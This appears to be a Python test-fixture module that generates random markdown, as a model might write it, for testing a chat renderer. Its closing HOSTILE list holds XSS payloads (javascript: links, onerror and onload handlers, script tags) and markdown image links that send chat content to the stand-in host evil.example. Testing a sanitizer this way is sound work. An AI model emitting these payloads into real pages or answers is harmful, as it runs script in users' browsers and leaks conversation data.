"""Answers for tests: random markdown as a model might write it, and what an attacker might make it write."""

import random

WORDS = [
    "the",
    "model",
    "answers",
    "in",
    "small",
    "pieces",
    "and",
    "each",
    "of",
    "them",
    "arrives",
    "alone",
    "while",
    "rivers",
    "bend",
    "around",
    "old",
    "hills",
    "café",
    "naïve",
    "straße",
    "日本語",
    "ストリーミング",
    "応答",
    "東京",
    "🎉",
    "👩\u200d👩\u200d👧",
    "🇯🇵",
    "é",
    "مرحبا",
    "שלום",
    "**bold**",
    "*it*",
    "`code`",
    "~~gone~~",
    "[link](https://example.com/a?b=1&amp;c=2)",
    "[ref]",
    "[other",
    "ref][ref2]",
    "<br>",
    "&copy;",
    "&#x1F600;",
    "https://example.org",
    "$x^2$",
    "\\(a+b\\)",
    "$5",
    "and_under_score",
    "__strong__",
    "3*4*5",
    "<b>html</b>",
    "![pic](https://example.com/p.png)",
    "a\\*b",
    "[^1]",
]
LANGUAGES = ("python", "js", "", "html", "unknown", "json", "bash")


def _words(chance: random.Random, least: int = 1, most: int = 12) -> str:
    return " ".join(chance.choice(WORDS) for _ in range(chance.randint(least, most)))


def _paragraph(chance: random.Random) -> str:
    return chance.choice(["\n", "  \n", " \\\n"]).join(_words(chance) for _ in range(chance.randint(1, 3)))


def _heading(chance: random.Random) -> str:
    if chance.random() < 0.2:
        return f"{_words(chance, 1, 4)}\n{chance.choice(['===', '---'])}"
    return f"{'#' * chance.randint(1, 6)} {_words(chance, 1, 5)}"


def _list(chance: random.Random, depth: int = 0) -> str:
    ordered = chance.random() < 0.4
    loose = chance.random() < 0.3
    lines = []
    for index in range(chance.randint(1, 4)):
        marker = f"{index + 1}." if ordered else chance.choice(["-", "-", "*"])
        task = chance.choice(["[ ] ", "[x] "]) if chance.random() < 0.2 else ""
        lines.append(f"{'   ' * depth}{marker} {task}{_words(chance, 1, 6)}")
        if chance.random() < 0.15:
            lines.append("")
            lines.append(f"{'   ' * (depth + 1)}{_words(chance)}")
        if depth < 2 and chance.random() < 0.3:
            lines.append(_list(chance, depth + 1))
        if loose:
            lines.append("")
    return "\n".join(lines).rstrip("\n")


def _code(chance: random.Random) -> str:
    fence = chance.choice(["```", "```", "~~~", "````"])
    lines = [
        chance.choice(["def f(x):", "    return x", "", "const a = `t`;", "<p class='x'>", "# 日本語", "``", "  ```js"])
        for _ in range(chance.choice([1, 3, 8, 60]))
    ]
    closing = f"\n{fence}" if chance.random() < 0.93 else ""
    body = "\n".join(line for line in lines if not line.strip().startswith(fence))
    return f"{fence}{chance.choice(LANGUAGES)}\n{body}{closing}"


def _table(chance: random.Random) -> str:
    columns = chance.randint(1, 4)

    def row() -> str:
        return "| " + " | ".join(_words(chance, 1, 3).replace("|", "") for _ in range(columns)) + " |"

    ruler = "|" + "|".join(chance.choice(["---", ":--", "--:", ":-:"]) for _ in range(columns)) + "|"
    return "\n".join([row(), ruler, *(row() for _ in range(chance.randint(0, 4)))])


def _quote(chance: random.Random) -> str:
    return "\n".join(f"> {line}" for line in _block(chance, quotes=False).split("\n"))


def _definition(chance: random.Random) -> str:
    return f"[{chance.choice(['ref', 'ref2', 'REF', 'unused'])}]: https://example.com/{chance.randint(1, 9)}"


def _other(chance: random.Random) -> str:
    return chance.choice(
        [
            "---",
            "***",
            "    indented code\n\n    more of it",
            "$$\n\\frac{a}{b}\n$$",
            "\\[ \\sum_{i=1}^n i \\]",
            "$$ unclosed",
            "<details>\n<summary>x</summary>\n\ninside\n\n</details>",
            "<!-- a comment\n\nover lines -->",
            "<script>\n\nalert(1)\n\n</script>",
            "Term\n: definition",
            "[^1]: A footnote.",
            "| not | a table |",
            "\t- tabbed",
            "1) one\n2) two",
            "text\n- tight list after text\n\n\n- far item",
        ]
    )


def _block(chance: random.Random, *, quotes: bool = True) -> str:
    kinds = [_paragraph, _paragraph, _heading, _list, _list, _code, _table, _definition, _other]
    return chance.choice([*kinds, _quote] if quotes else kinds)(chance)


def random_document(chance: random.Random) -> str:
    """Some blocks, mostly with blank lines between them, sometimes with Windows line ends or none at the end."""
    blocks = [_block(chance) for _ in range(chance.randint(1, 14))]
    text = blocks[0] + "".join(chance.choice(["\n\n", "\n\n", "\n\n", "\n", "\n\n\n"]) + block for block in blocks[1:])
    text += chance.choice(["", "\n", "\n\n"])
    return text.replace("\n", "\r\n") if chance.random() < 0.1 else text


def long_mixed(size: int) -> str:
    """Headings, paragraphs, lists, tables, code and quotes, about `size` characters of them."""
    chance = random.Random(7)  # noqa: S311 - a document, not a secret
    parts: list[str] = []
    while sum(map(len, parts)) < size:
        block = chance.choice([_heading, _paragraph, _paragraph, _list, _code, _table, _quote])(chance)
        closed = block if block.count("```") % 2 == 0 and block.count("~~~") % 2 == 0 else _paragraph(chance)
        parts.append(f"{closed}\n\n")
    return "".join(parts)


def long_code(size: int) -> str:
    """One block of Python, about `size` characters."""
    function = """def handle_{n}(event: dict[str, str], context: object) -> str:
    # Step {n}: look at what came in
    values = [item for item in event.values() if len(item) > {n}]
    return f"{{len(values)}} of {{len(event)}}"


"""
    count = size // len(function)
    return "```python\n" + "".join(function.format(n=n) for n in range(count)) + "```\n"


EVIL = "https://evil.example"
HOSTILE = (
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java&#115;cript:alert(1))",
    "[click](&#x6A;avascript&colon;alert(1))",
    "[click](javascript&#58;alert(1))",
    "[click]( javascript:alert(1))",
    "[click](\x01javascript:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](<java\tscript:alert(1)>)",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html,<script>alert(1)</script>)",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](blob:https://example.com/x)",
    "[click](file:///etc/passwd)",
    "[click][ref]\n\n[ref]: javascript:alert(1)",
    "<javascript:alert(1)>",
    '<https://example.com/" onmouseover=alert(1) x=">',
    '[a](https://example.com "x" onmouseover="alert(1)")',
    "[a](https://example.com'onclick='alert(1))",
    '<img src=x onerror="alert(1)">',
    "<img src=x onerror=alert(1)//",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    f"<script src={EVIL}/x.js></script>",
    f"<style>@import url({EVIL}/x.css);</style>",
    f'<div style="background:url({EVIL}/x.png)">x</div>',
    f"<link rel=stylesheet href={EVIL}/x.css>",
    f"<iframe src={EVIL}></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    f"<object data={EVIL}/x.swf></object><embed src={EVIL}/x>",
    f"<video src={EVIL}/x.mp4 autoplay onerror=alert(1)></video>",
    f"<form action={EVIL}><input name=x autofocus onfocus=alert(1)></form>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<base href={EVIL}/>",
    "<details open ontoggle=alert(1)>x</details>",
    "<a href='javascript:alert(1)'>x</a>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    f"![secret]({EVIL}/?q=what-we-talked-about)",
    f"![secret][pic]\n\n[pic]: {EVIL}/?q=secret",
    f"[![x]({EVIL}/a.png)]({EVIL}/b)",
    "![x](data:image/svg+xml,<svg onload=alert(1)>) ![y](javascript:alert(1))",
    "```html\n<img src=x onerror=alert(1)>\n```",
    '```" onclick=alert(1) x="\ncode\n```',
    "```<img/src=x/onerror=alert(1)>\ncode\n```",
    "`<img src=x onerror=alert(1)>`",
    "| <img src=x onerror=alert(1)> |\n|---|\n| <svg onload=alert(1)> |",
    "- [x] <img src=x onerror=alert(1)>",
    "$\\href{javascript:alert(1)}{x}$",
    "$$\n\\text{<img src=x onerror=alert(1)>}\n$$",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "__proto__ [constructor] [__proto__]\n\n[__proto__]: https://example.com",
)
"""Everything that has run or fetched something in one chat page or another."""
